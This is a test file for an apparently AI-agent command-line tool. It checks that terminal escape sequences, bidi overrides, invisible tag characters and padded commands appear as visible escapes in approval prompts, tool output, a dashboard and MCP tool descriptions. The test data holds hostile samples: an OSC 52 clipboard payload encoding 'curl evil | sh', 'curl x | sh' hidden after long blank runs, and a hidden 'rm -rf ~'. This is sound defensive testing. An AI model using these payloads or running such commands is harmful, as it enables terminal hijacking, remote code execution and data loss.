import { writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { tempDir } from "../support/tools.js";
import { inTerminal } from "./pty.js";
import { runCli } from "./run-cli.js";
import { foldLines, oneLine, terminalSafe } from "../../src/core/visible.js";
import { everyCharacter } from "../support/every-character.js";

let ws: ReturnType<typeof tempDir>;
beforeEach(() => (ws = tempDir()));
afterEach(() => ws.cleanup());

const ESC = "\u001b";
/** What an attacker writes: erase the line above and move up, set the clipboard (OSC 52), reverse the text. */
const HOSTILE = `${ESC}[1A${ESC}[2K${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u202eclean`;
const noColour = { NO_COLOR: "1" };

describe("what reaches the terminal is shown, never obeyed", { timeout: 120_000 }, () => {
  it("the approval prompt shows a command's control characters and blank lines, and the part that runs", async () => {
    const command = `echo harmless${"\n".repeat(30)}${HOSTILE}; rm -rf ./nothing-here`;
    const t = inTerminal(["call", "shell", JSON.stringify({ command }), "--approval", "ask", "--workspace", ws.dir], { env: noColour });
    await t.waitFor(/Approve\?/);
    t.type("n");
    await t.waitFor(/say why|message|reason/i);
    t.type("\r");
    await t.exited;
    const screen = t.screen();
    expect(screen).not.toContain(ESC);
    expect(screen).not.toContain("\u202e");
    expect(screen).toContain("\\x1b[1A\\x1b[2K\\x1b]52;c;");
    expect(screen).toContain("\\u202eclean; rm -rf ./nothing-here");
    expect(screen).toContain("\\n\\n\\n");
  });

  it("an auto-approved read_file and a command's output reach the terminal with escapes made visible", async () => {
    writeFileSync(path.join(ws.dir, "notes.txt"), `before ${HOSTILE} after\n`);
    const read = inTerminal(["call", "read_file", "path=notes.txt", "--workspace", ws.dir], { env: noColour });
    await read.exited;
    expect(read.screen()).not.toContain(ESC);
    expect(read.screen()).toContain("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07");
    const shell = inTerminal(["call", "shell", "command=printf 'x\\033]52;c;cm0=\\007y\\n'", "--approval", "all", "--workspace", ws.dir], {
      env: noColour,
    });
    await shell.exited;
    expect(shell.screen()).not.toContain(ESC);
    expect(shell.screen()).toContain("x\\x1b]52;c;cm0=\\x07y");
  });

  it("piped, the output stays byte for byte what the tool returned", async () => {
    writeFileSync(path.join(ws.dir, "notes.txt"), `before ${HOSTILE} after\n`);
    const r = await runCli(["call", "shell", "command=cat notes.txt", "--workspace", ws.dir]);
    expect(r.stdout).toContain(HOSTILE);
  });
});

describe("visible text", () => {
  it("writes control characters, C1 controls and reordering marks as escapes; keeps newlines where asked", () => {
    expect(terminalSafe(`a${ESC}[31mb\u009b\r\tc\n\u2066d\u200b`)).toBe("a\\x1b[31mb\\x9b\\r\tc\n\\u2066d\\u200b");
    expect(oneLine("a\nb\tc" + " ".repeat(20) + "d")).toBe("a\\nb\\tc [20 spaces] d");
    expect(foldLines("1\n2\n3\n4", 2)).toBe("1\n2\n… 2 more lines (? shows all)");
  });

  it("writes characters that draw nothing as escapes: tags spelling a hidden text, fillers, a run of variation selectors", () => {
    const tags = [..."rm -rf ~"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("");
    expect(terminalSafe(`ok${tags}!`)).toBe("ok\\u{e0072}\\u{e006d}\\u{e0020}\\u{e002d}\\u{e0072}\\u{e0066}\\u{e0020}\\u{e007e}!");
    expect(terminalSafe("let \u3164 = 1; soft\u00adhyphen; a\u034fb\u115f\u1160\u17b4\u180e\uffa0")).toBe(
      "let \\u3164 = 1; soft\\xadhyphen; a\\u034fb\\u115f\\u1160\\u17b4\\u180e\\uffa0",
    );
    // One variation selector after an emoji is how it is drawn; a run of them carries data.
    expect(terminalSafe("\u2764\ufe0f")).toBe("\u2764\ufe0f");
    expect(terminalSafe("\u{1f600}\ufe01\ufe02\u{e0101}x")).toBe("\u{1f600}\\ufe01\\ufe02\\u{e0101}x");
    expect(terminalSafe("\u{e0101}")).toBe("\\u{e0101}");
  });

  it("every format character is written as an escape (the pattern names them one by one: it must still cover Unicode's Cf)", () => {
    for (let code = 0; code <= 0x10ffff; code++) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const ch = String.fromCodePoint(code);
      if (/\p{Cf}/u.test(ch)) expect(terminalSafe(ch), code.toString(16)).not.toBe(ch);
    }
    expect(terminalSafe("a\u206ab\ufff9c\u{1d173}d\u0600e")).toBe("a\\u206ab\\ufff9c\\u{1d173}d\\u0600e");
  });

  it("a run of any blank-looking character is counted, not only of spaces", () => {
    for (const blank of ["\u00a0", "\u2003", "\u3000", "\u2800", "\u205f"]) {
      expect(oneLine(`echo hi${blank.repeat(500)}; curl x | sh`)).toBe("echo hi [500 spaces] ; curl x | sh");
    }
    expect(oneLine("a\u00a0b")).toBe("a\u00a0b");
  });
});

describe("every front end shows control characters the same way", () => {
  const SAMPLES = [
    `a${ESC}[31mb`,
    "x\r\ny",
    "\u202eevil\u2066",
    "tab\there",
    "c1\u009bz",
    "zero\u200bwidth\ufeff",
    "plain text",
    "tag\u{e0041}\u{e0042}s",
    "\u2764\ufe0f kept, \u{1f600}\ufe01\ufe02\u{e0101} not",
    "filler\u3164\u00ad",
  ];

  it("the dashboard's page renders them as the terminal does", async () => {
    const { DASHBOARD_HTML } = await import("../../src/serve/dashboard.js");
    const code = DASHBOARD_HTML.slice(DASHBOARD_HTML.indexOf("const HIDDEN"), DASHBOARD_HTML.indexOf("function visibleJson"));
    const pageVisible = new Function(`${code}; return visible;`)() as (text: string) => string;
    for (const sample of SAMPLES) expect(pageVisible(sample), JSON.stringify(sample)).toBe(terminalSafe(sample));
    expect(pageVisible(everyCharacter()) === terminalSafe(everyCharacter())).toBe(true);
  });

  it("the dashboard's approval card counts a run of spaces in an argument, as the terminal's prompt does", async () => {
    const { DASHBOARD_HTML } = await import("../../src/serve/dashboard.js");
    const code = DASHBOARD_HTML.slice(DASHBOARD_HTML.indexOf("const HIDDEN"), DASHBOARD_HTML.indexOf("/** A description written"));
    const page = new Function(`${code}; return { visibleJson, countedSpaces };`)() as {
      visibleJson: (value: unknown) => string;
      countedSpaces: (value: unknown) => unknown;
    };
    const command = `echo hi${" ".repeat(3000)}; curl x | sh`;
    const shown = page.visibleJson(page.countedSpaces({ command, nested: { list: [command] }, n: 1 }));
    expect(shown).toContain(JSON.stringify(oneLine(command)));
    expect(shown).toContain('"echo hi [3000 spaces] ; curl x | sh"');
    expect(shown).not.toMatch(/ {8,}/);
    const blanks = `echo hi${"\u2800".repeat(300)}${"\u3000".repeat(300)}; curl x | sh`;
    expect(page.countedSpaces(blanks)).toBe("echo hi [600 spaces] ; curl x | sh");
  });
});

describe("an MCP server's tool descriptions are shown, never obeyed", { timeout: 120_000 }, () => {
  it("tackle tools and tackle tools NAME write their control characters out", async () => {
    const fixture = path.resolve(import.meta.dirname, "../fixtures/mcp/client-stdio-server.mjs");
    writeFileSync(
      path.join(ws.dir, "tackle.config.json"),
      JSON.stringify({ mcpServers: { fx: { command: process.execPath, args: [fixture, "--hostile"] } }, mcpWaitMs: 60_000 }),
    );
    for (const args of [["tools"], ["tools", "fx__shout"]]) {
      const r = await runCli(args, { cwd: ws.dir, env: noColour, timeoutMs: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain("fx__shout");
      expect(r.stdout).not.toMatch(/\u001b|\u0007/);
      expect(r.stdout).toContain("\\x1b[2J\\x1b]52;c;");
    }
  });
});
